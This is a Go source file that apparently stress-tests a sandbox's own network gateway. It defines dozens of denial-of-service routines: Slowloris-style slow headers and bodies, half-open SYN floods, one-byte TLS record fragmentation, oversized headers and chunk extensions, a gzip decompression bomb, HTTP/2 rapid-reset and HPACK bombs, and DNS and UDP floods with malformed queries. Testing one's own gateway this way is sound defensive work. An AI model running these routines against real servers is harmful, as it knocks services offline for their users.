//go:build linux

package main

import (
	"bytes"
	"compress/gzip"
	"context"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"
)

// attacks are what a sandbox can do to its gateway, each with as many workers
// as it needs to reach the bounds.
var attacks = []attackProgram{
	{"slow-headers", 200, slowHeaders},
	{"slow-bodies", 200, slowBodies},
	{"slow-reads", 100, slowReads("/open/endless")},
	{"slow-tiny-reads", 100, slowReads("/open/drops")},
	{"connections", 32, connections},
	{"half-open", 16, halfOpen},
	{"idle-connections", 600, idleConnections},
	{"handshakes", 16, handshakes},
	{"hello-fragments", 64, helloFragments},
	{"not-tls", 16, notTLS},
	{"requests", 16, requests("/open/ping")},
	{"denied-requests", 16, requests("/closed/ping")},
	{"denied-paths", 16, deniedPaths},
	{"giant-headers", 8, giantHeaders},
	{"chunk-extensions", 8, chunkExtensions},
	{"tiny-chunks", 8, tinyChunks},
	{"tiny-answers", 8, requests("/open/drops")},
	{"body-bombs", 8, bodyBombs},
	{"answer-bombs", 8, requests("/open/bomb")},
	{"scrubbed-bombs", 8, scrubbedBombs},
	{"websocket-frames", 8, webSocketFrames},
	{"h2-streams", 8, h2Streams},
	{"rapid-reset", 8, rapidReset},
	{"continuation", 8, continuation},
	{"hpack-bombs", 8, hpackBombs},
	{"settings", 8, settings},
	{"pings", 8, pings},
	{"window-updates", 8, windowUpdates},
	{"dns-granted", 4, queries(func(int64) string { return openHost })},
	{"dns-denied", 4, queries(func(int64) string { return denied })},
	{"dns-names", 4, queries(func(n int64) string { return fmt.Sprintf("n%d.%s", n, denied) })},
	{"dns-rubbish", 4, queries(func(int64) string { return "" })},
	{"datagrams", 4, datagrams},
	{"denied-names", 16, deniedNames},
	{"plain-requests", 16, plainRequests},
	{"host-port", 32, hostPort},
	{"published-port", 1, publishedPort},
	{"big-bodies", 64, bigBodies}, // last: what it holds keeps other bodies waiting
}

func slowHeaders(ctx context.Context, blows *atomic.Int64) {
	over(ctx, openHost, "http/1.1", func(c net.Conn) {
		io.WriteString(c, "GET /open/ping HTTP/1.1\r\nHost: "+openHost+"\r\n")
		for {
			if _, err := io.WriteString(c, "X-A: b\r\n"); err != nil || ctx.Err() != nil {
				return
			}
			blows.Add(1)
			pause(ctx, 500*time.Millisecond)
		}
	})
}

func slowBodies(ctx context.Context, blows *atomic.Int64) {
	over(ctx, modelHost, "http/1.1", func(c net.Conn) {
		io.WriteString(c, "POST /v1/messages HTTP/1.1\r\nHost: "+modelHost+"\r\nContent-Type: application/json\r\nX-Api-Key: "+os.Getenv("ANTHROPIC_API_KEY")+"\r\nContent-Length: 1000000\r\n\r\n")
		for {
			if _, err := io.WriteString(c, "{"); err != nil || ctx.Err() != nil {
				return
			}
			blows.Add(1)
			pause(ctx, 500*time.Millisecond)
		}
	})
}

// slowReads takes a byte a second of an answer that does not end.
func slowReads(path string) func(context.Context, *atomic.Int64) {
	return func(ctx context.Context, blows *atomic.Int64) {
		c, err := secure(ctx, openHost, "http/1.1")
		if err != nil {
			return
		}
		defer c.Close()
		io.WriteString(c, "GET "+path+" HTTP/1.1\r\nHost: "+openHost+"\r\n\r\n")
		for one := make([]byte, 1); ; {
			if _, err := c.Read(one); err != nil || ctx.Err() != nil {
				return
			}
			blows.Add(1)
			pause(ctx, time.Second)
		}
	}
}

func connections(ctx context.Context, blows *atomic.Int64) {
	if c, err := dial(ctx, openHost, 443); err == nil {
		c.Close()
	}
	blows.Add(1)
}

// halfOpen leaves before the answer to its SYN comes.
func halfOpen(ctx context.Context, blows *atomic.Int64) {
	to := &syscall.SockaddrInet4{Port: 443, Addr: [4]byte{198, 18, 77, byte(blows.Load())}}
	if ip, ok := addresses.Load(openHost); ok && blows.Load()%2 == 0 {
		if four := net.ParseIP(ip.(string)).To4(); four != nil {
			to.Addr = [4]byte(four)
		}
	}
	if proxy != "" {
		at, err := net.ResolveTCPAddr("tcp4", proxy)
		if err != nil {
			return
		}
		to.Addr, to.Port = [4]byte(at.IP.To4()), at.Port
	}
	for range 50 {
		fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_STREAM|syscall.SOCK_NONBLOCK|syscall.SOCK_CLOEXEC, 0)
		if err != nil {
			return
		}
		syscall.SetsockoptLinger(fd, syscall.SOL_SOCKET, syscall.SO_LINGER, &syscall.Linger{Onoff: 1})
		syscall.Connect(fd, to)
		syscall.Close(fd)
		blows.Add(1)
	}
}

func idleConnections(ctx context.Context, blows *atomic.Int64) {
	c, err := dial(ctx, openHost, 443)
	if err != nil {
		pause(ctx, 100*time.Millisecond)
		return
	}
	defer c.Close()
	blows.Add(1)
	io.Copy(io.Discard, c)
}

func handshakes(ctx context.Context, blows *atomic.Int64) {
	if c, err := secure(ctx, openHost, "http/1.1"); err == nil {
		c.Close()
	}
	blows.Add(1)
}

// helloFragments sends a ClientHello in records of one byte, each in a segment
// of its own.
func helloFragments(ctx context.Context, blows *atomic.Int64) {
	c, err := dial(ctx, openHost, 443)
	if err != nil {
		return
	}
	defer c.Close()
	tls.Client(fragmenting{c, blows}, &tls.Config{ServerName: openHost, InsecureSkipVerify: true}).HandshakeContext(ctx)
}

type fragmenting struct {
	net.Conn
	blows *atomic.Int64
}

func (f fragmenting) Write(b []byte) (int, error) {
	if len(b) < 5 || b[0] != 22 {
		return f.Conn.Write(b)
	}
	for _, one := range b[5:] {
		if _, err := f.Conn.Write([]byte{22, b[1], b[2], 0, 1, one}); err != nil {
			return 0, err
		}
		f.blows.Add(1)
	}
	return len(b), nil
}

func notTLS(ctx context.Context, blows *atomic.Int64) {
	c, err := dial(ctx, openHost, 443)
	if err != nil {
		return
	}
	defer c.Close()
	c.Write(bytes.Repeat([]byte{0x16, 3, 1, 0xff, 0xff}, 4000))
	io.Copy(io.Discard, c)
	blows.Add(1)
}

func requests(path string) func(context.Context, *atomic.Int64) {
	return func(ctx context.Context, blows *atomic.Int64) {
		client := &http.Client{Transport: &http.Transport{DialTLSContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
			return secure(ctx, openHost, "http/1.1")
		}, DisableCompression: true}}
		defer client.CloseIdleConnections()
		for ctx.Err() == nil {
			send(ctx, client, "https://"+openHost+path, blows)
		}
	}
}

func send(ctx context.Context, client *http.Client, url string, blows *atomic.Int64) {
	r, err := http.NewRequestWithContext(ctx, "GET", url, nil)
	if err != nil {
		return
	}
	blows.Add(1)
	resp, err := client.Do(r)
	if err != nil {
		pause(ctx, time.Millisecond)
		return
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
}

// deniedPaths asks for another path each time: no two refusals are the same.
func deniedPaths(ctx context.Context, blows *atomic.Int64) {
	over(ctx, openHost, "http/1.1", func(c net.Conn) {
		for ctx.Err() == nil {
			if _, err := fmt.Fprintf(c, "GET /closed/%d/%d HTTP/1.1\r\nHost: %s\r\n\r\n", blows.Add(1), time.Now().UnixNano(), openHost); err != nil {
				return
			}
		}
	})
}

func giantHeaders(ctx context.Context, blows *atomic.Int64) {
	over(ctx, openHost, "http/1.1", func(c net.Conn) {
		io.WriteString(c, "GET /open/ping HTTP/1.1\r\nHost: "+openHost+"\r\n")
		for block := "X-A: " + strings.Repeat("a", 8000) + "\r\n"; ; {
			if _, err := io.WriteString(c, block); err != nil {
				return
			}
			blows.Add(1)
		}
	})
}

func chunked(ctx context.Context, block string, blows *atomic.Int64) {
	over(ctx, openHost, "http/1.1", func(c net.Conn) {
		io.WriteString(c, "POST /open/ping HTTP/1.1\r\nHost: "+openHost+"\r\nTransfer-Encoding: chunked\r\n\r\n")
		for {
			if _, err := io.WriteString(c, block); err != nil {
				return
			}
			blows.Add(1)
		}
	})
}

func chunkExtensions(ctx context.Context, blows *atomic.Int64) {
	chunked(ctx, strings.Repeat("1;a=b\r\nx\r\n", 500), blows)
	chunked(ctx, "1;"+strings.Repeat("a", 64<<10), blows)
}

func tinyChunks(ctx context.Context, blows *atomic.Int64) {
	chunked(ctx, strings.Repeat("1\r\nx\r\n", 2000), blows)
}

// post sends a body to where it has to be read before anything is decided.
func post(ctx context.Context, header string, body []byte, blows *atomic.Int64) {
	over(ctx, modelHost, "http/1.1", func(c net.Conn) {
		for ctx.Err() == nil {
			blows.Add(1)
			fmt.Fprintf(c, "POST /v1/messages HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nX-Api-Key: %s\r\n%sContent-Length: %d\r\n\r\n", modelHost, os.Getenv("ANTHROPIC_API_KEY"), header, len(body))
			if _, err := c.Write(body); err != nil {
				return
			}
		}
	})
}

var whole = []byte(`{"model":"m","max_tokens":1,"messages":[{"role":"user","content":"` + strings.Repeat("a", 8<<20) + `"}]}`)

func bigBodies(ctx context.Context, blows *atomic.Int64) { post(ctx, "", whole, blows) }

// bomb is some hundred kilobytes that become two hundred megabytes. Making it takes
// longer than the measured session takes to begin.
var bomb = sync.OnceValue(func() []byte {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	z.Write([]byte(`{"model":"`))
	for block := bytes.Repeat([]byte{' '}, 1<<20); b.Len() < 200<<10; {
		z.Write(block)
	}
	z.Close()
	return b.Bytes()
})

func bodyBombs(ctx context.Context, blows *atomic.Int64) {
	for _, coding := range []string{"gzip", "br", "gzip, gzip", "deflate", "zstd"} {
		post(ctx, "Content-Encoding: "+coding+"\r\nConnection: close\r\n", bomb(), blows)
	}
}

func scrubbedBombs(ctx context.Context, blows *atomic.Int64) {
	small := []byte(`{"model":"m","max_tokens":1,"messages":[{"role":"user","content":"a"}]}`)
	post(ctx, "Anthropic-Version: 2023-06-01\r\nAccept-Encoding: gzip, br\r\n", small, blows)
}

func webSocketFrames(ctx context.Context, blows *atomic.Int64) {
	over(ctx, openHost, "http/1.1", func(c net.Conn) {
		io.WriteString(c, "GET /open/socket HTTP/1.1\r\nHost: "+openHost+"\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n")
		ping, part := []byte{0x89, 0x80, 0, 0, 0, 0}, []byte{0x00, 0x81, 0, 0, 0, 0, 'x'}
		block := append([]byte{0x01, 0x81, 0, 0, 0, 0, 'x'}, bytes.Repeat(append(ping, part...), 1000)...)
		for {
			if _, err := c.Write(block); err != nil {
				return
			}
			block = block[len(block)-13000:] // the message goes on for ever
			blows.Add(1000)
		}
	})
}

// queries floods the resolver over UDP.
func queries(name func(n int64) string) func(context.Context, *atomic.Int64) {
	return func(ctx context.Context, blows *atomic.Int64) {
		if proxy != "" {
			deniedNames(ctx, blows)
			return
		}
		c, err := net.Dial("udp", nameserver()+":53")
		if err != nil {
			return
		}
		defer c.Close()
		for ctx.Err() == nil {
			for range 100 {
				c.Write(query(name(blows.Add(1))))
			}
		}
	}
}

func nameserver() string {
	data, _ := os.ReadFile("/etc/resolv.conf")
	for l := range strings.Lines(string(data)) {
		if f := strings.Fields(l); len(f) == 2 && f[0] == "nameserver" {
			return f[1]
		}
	}
	return "127.0.0.1"
}

func query(name string) []byte {
	b := []byte{0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	if name == "" {
		return append(b, 0xc0, 0x0c) // a name that points to itself
	}
	for label := range strings.SplitSeq(name, ".") {
		b = append(append(b, byte(len(label))), label...)
	}
	b = append(b, 0)
	return binary.BigEndian.AppendUint16(binary.BigEndian.AppendUint16(b, 1), 1)
}

// datagrams go where nothing may go.
func datagrams(ctx context.Context, blows *atomic.Int64) {
	c, err := net.ListenPacket("udp4", ":0")
	if err != nil {
		return
	}
	defer c.Close()
	for ctx.Err() == nil {
		n := blows.Add(1)
		c.WriteTo([]byte("x"), &net.UDPAddr{IP: net.IPv4(203, 0, byte(113+n%3), byte(n)), Port: 1 + int(n%60000)})
	}
}

func deniedNames(ctx context.Context, blows *atomic.Int64) {
	if c, err := dial(ctx, fmt.Sprintf("n%d.%s", blows.Add(1), denied), 443); err == nil {
		c.Close()
	}
}

func plainRequests(ctx context.Context, blows *atomic.Int64) {
	client := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{Proxy: http.ProxyFromEnvironment, DisableKeepAlives: true}}
	send(ctx, client, "http://"+plainHost+"/open/ping", blows)
}

// hostPort floods the granted port of the host.
func hostPort(ctx context.Context, blows *atomic.Int64) {
	d := net.Dialer{Timeout: 10 * time.Second}
	c, err := d.DialContext(ctx, "tcp", "127.0.0.1:"+os.Getenv("ABUSE_HOST_PORT"))
	blows.Add(1)
	if err != nil {
		pause(ctx, 10*time.Millisecond)
		return
	}
	io.WriteString(c, "GET /open/ping HTTP/1.1\r\nHost: localhost\r\n\r\n")
	c.SetReadDeadline(time.Now().Add(time.Second))
	c.Read(make([]byte, 16))
	c.Close()
}

// publishedPort answers whoever comes from outside without end.
func publishedPort(ctx context.Context, blows *atomic.Int64) {
	l, err := net.Listen("tcp", "127.0.0.1:3000")
	if err != nil {
		pause(ctx, 100*time.Millisecond)
		return
	}
	defer context.AfterFunc(ctx, func() { l.Close() })()
	for {
		c, err := l.Accept()
		if err != nil {
			return
		}
		blows.Add(1)
		go func(c net.Conn) {
			defer c.Close()
			for rubbish := make([]byte, 64<<10); ; {
				if _, err := c.Write(rubbish); err != nil {
					return
				}
			}
		}(until(ctx, c))
	}
}
